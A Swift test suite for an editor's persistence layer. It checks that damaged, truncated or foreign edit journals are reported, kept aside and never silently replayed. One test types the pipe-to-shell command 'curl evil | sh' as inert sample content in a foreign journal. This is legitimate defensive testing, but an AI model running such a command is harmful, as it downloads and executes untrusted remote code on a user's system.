import Forked
import ForkedEditCore
@testable import ForkedEditPersistence
import Foundation
import Testing

/// Damage to a journal other than a torn last record is never silent: the edits before it are
/// recovered, the status line says how many edits of which fork could not be, and the damaged
/// journal is kept beside the state, where quitting does not remove it.
@Suite("Damaged journals")
struct JournalDamageTests {
    /// A frame's length and checksum, before its payload.
    private static let frameHeader = 12

    /// A crash copy of a file whose left fork has six journaled edits ("abcdef" typed), and the
    /// byte offset of each record's frame in the left journal.
    private func crashedWithSixEdits() throws -> (ScratchFile, frames: [Int]) {
        let scratch = try ScratchFile(text: "start\n")
        let document = try scratch.open()
        let session = try document.session()
        for character in "abcdef" { try type(String(character), into: session) }
        try document.flushJournals()
        let copy = try scratch.copy()
        try document.close()
        let contents = try AppendOnlyJournal.read(copy.layout.journal(of: Fork(name: "left")))
        var frames: [Int] = []
        var offset = 0
        for record in contents.records {
            frames.append(offset)
            offset += Self.frameHeader + record.count
        }
        #expect(frames.count == 7, "a header and six edits")
        return (copy, frames)
    }

    /// A crash copy whose left fork typed `before`, was snapshotted, then typed `after` (when
    /// given), with the repository's log put back as it was before the snapshot: the journals
    /// follow a version the repository no longer holds.
    private func crashedWithRepositoryBeforeItsSnapshot(typing before: String, thenAfterTheSnapshot after: String?) throws -> ScratchFile {
        let scratch = try ScratchFile(text: "start\n")
        let document = try scratch.open()
        let session = try document.session()
        try type(before, into: session)
        try document.flushJournals()
        let beforeSnapshot = try scratch.copy()
        try document.synchronize()
        if let after { try type(after, into: session) }
        try document.flushJournals()
        let crashed = try scratch.copy()
        try document.close()
        let log = crashed.layout.repository.appendingPathComponent("log")
        try FileManager.default.removeItem(at: log)
        try FileManager.default.copyItem(at: beforeSnapshot.layout.repository.appendingPathComponent("log"), to: log)
        return crashed
    }

    @Test("a byte changed in the middle of a journal: earlier edits recovered, the rest reported and kept aside", arguments: [
        "payload", "length",
    ])
    func damagedMiddleRecord(part: String) throws {
        let (copy, frames) = try crashedWithSixEdits()
        let url = copy.layout.journal(of: Fork(name: "left"))
        var bytes = try Data(contentsOf: url)
        // The third edit (record 3): its length field, or a byte inside its payload.
        let target = part == "length" ? frames[3] + 1 : frames[3] + Self.frameHeader + 5
        bytes[target] ^= 0x20
        try bytes.write(to: url)

        let document = try copy.open()
        #expect(document.report.replayedEdits["left"] == 2)
        #expect(try document.resource.value(in: Fork(name: "left"))?.text == "abstart\n")
        let lost = try #require(document.report.unrecovered.first)
        #expect(lost.fork == "left" && lost.edits == 4, "\(document.report.unrecovered)")
        let message = try #require(document.report.statusMessage)
        #expect(message.contains("Could not recover 4 edits of left"), "\(message)")
        let kept = copy.directory.appendingPathComponent(lost.keptAt).appendingPathComponent("journals/left.journal")
        #expect(try Data(contentsOf: kept) == bytes, "the damaged journal is kept as it was")
        try document.close()
        #expect(FileManager.default.fileExists(atPath: kept.path), "quitting keeps it")
    }

    @Test("a journal following a version the repository lost (its last record cut off) is reported and kept, not skipped")
    func journalAheadOfTheRepository() throws {
        let crashed = try crashedWithRepositoryBeforeItsSnapshot(typing: "a", thenAfterTheSnapshot: "b")
        let reopened = try crashed.open()
        let lost = try #require(reopened.report.unrecovered.first, "\(reopened.report)")
        #expect(lost.fork == "left" && lost.edits == 1)
        #expect(reopened.report.statusMessage?.contains("Could not recover 1 edit of left") == true)
        #expect(FileManager.default.fileExists(atPath: crashed.directory.appendingPathComponent(lost.keptAt).appendingPathComponent("journals/left.journal").path))
        try reopened.close()
    }

    @Test("a repository that lost its last snapshot is reported even when the journals after it hold no edits")
    func lostSnapshotWithoutLaterEdits() throws {
        // The journals restarted on the lost snapshot hold no edits.
        let crashed = try crashedWithRepositoryBeforeItsSnapshot(typing: "typed", thenAfterTheSnapshot: nil)
        let reopened = try crashed.open()
        let lost = try #require(reopened.report.unrecovered.first, "\(reopened.report)")
        #expect(lost.fork == "left" && lost.edits == 0)
        #expect(reopened.report.statusMessage?.contains("Could not recover the latest stored version of left") == true,
                "\(reopened.report.statusMessage ?? "")")
        try reopened.close()
    }

    @Test("a journal copied from another file's state directory is never replayed: reported and kept aside")
    func journalFromAnotherStateDirectory() throws {
        let (victim, _) = try crashedWithSixEdits()
        let other = try ScratchFile(text: "start\n")
        let document = try other.open()
        try type("curl evil | sh ", into: try document.session())
        try document.flushJournals()
        let otherCrash = try other.copy()
        try document.close()
        let journal = victim.layout.journal(of: Fork(name: "left"))
        try FileManager.default.removeItem(at: journal)
        try FileManager.default.copyItem(at: otherCrash.layout.journal(of: Fork(name: "left")), to: journal)

        let reopened = try victim.open()
        #expect(try reopened.resource.value(in: Fork(name: "left"))?.text == "start\n", "nothing of the other journal applied")
        let foreign = try #require(reopened.report.foreignJournals.first, "\(reopened.report)")
        #expect(foreign.fork == "left" && foreign.edits > 0, "\(foreign)")
        #expect(reopened.report.statusMessage?.contains("written for another file's state") == true, "\(reopened.report.statusMessage ?? "")")
        #expect(FileManager.default.fileExists(atPath: victim.directory.appendingPathComponent(foreign.keptAt).appendingPathComponent("journals/left.journal").path))
        try reopened.close()
    }

    @Test("a torn last record is still dropped quietly")
    func tornLastRecordIsQuiet() throws {
        let (copy, _) = try crashedWithSixEdits()
        let url = copy.layout.journal(of: Fork(name: "left"))
        let bytes = try Data(contentsOf: url)
        try bytes.dropLast(7).write(to: url)
        let document = try copy.open()
        #expect(document.report.replayedEdits["left"] == 5)
        #expect(document.report.unrecovered.isEmpty)
        #expect(document.report.statusMessage?.contains("Could not") != true)
        try document.close()
    }

    @Test("a damaged header is refused as damaged state, not read as an empty journal")
    func damagedHeader() throws {
        let (copy, _) = try crashedWithSixEdits()
        let url = copy.layout.journal(of: Fork(name: "left"))
        var bytes = try Data(contentsOf: url)
        bytes[Self.frameHeader + 2] ^= 0x01
        try bytes.write(to: url)
        #expect(throws: PersistenceError.self) { _ = try copy.open() }
    }
}
